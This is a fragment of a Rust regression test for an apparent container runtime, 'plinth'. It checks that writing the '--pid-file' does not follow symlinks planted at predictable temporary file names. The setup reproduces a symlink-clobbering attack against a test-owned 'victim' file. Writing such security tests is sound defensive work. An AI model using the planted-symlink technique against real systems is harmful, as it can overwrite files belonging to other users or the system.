    let b = Bundle::busybox("sleep 100");
    let shared = TempDir::new("plinth-pidshared");
    let victim = shared.0.join("victim");
    std::fs::write(&victim, "VICTIM\n").unwrap();
    for pid in 1..=3 {
        std::os::unix::fs::symlink(&victim, shared.0.join(format!(".container.pid.tmp{pid}")))
            .unwrap();
    }
    let pid_file = shared.0.join("container.pid");
    let id = unique("pidfile");
    let err = b.tmp.0.join("pidfile.err");
    let status = Command::new("unshare")
        .args(["--pid", "--fork", "--mount-proc"])
        .arg(plinth_bin())
        .arg("--root")
        .arg(&b.root)
        .args(["create", "--bundle"])
        .arg(&b.dir)
        .arg("--pid-file")
        .arg(&pid_file)
        .arg(&id)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(&err).unwrap())
        .status()
        .unwrap();
    let _ = b.plinth(&["delete", "--force", &id]);
    assert!(
        status.success(),
        "create: {}",
        std::fs::read_to_string(&err).unwrap_or_default()
    );
    assert_eq!(
        std::fs::read_to_string(&victim).unwrap(),
        "VICTIM\n",
        "the pid was written through a planted symlink"
    );
    let md = std::fs::symlink_metadata(&pid_file).unwrap();
    assert!(md.is_file(), "the pid file is not a regular file: {md:?}");
    let pid: i32 = std::fs::read_to_string(&pid_file)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    assert!(pid > 1, "pid file: {pid}");
}
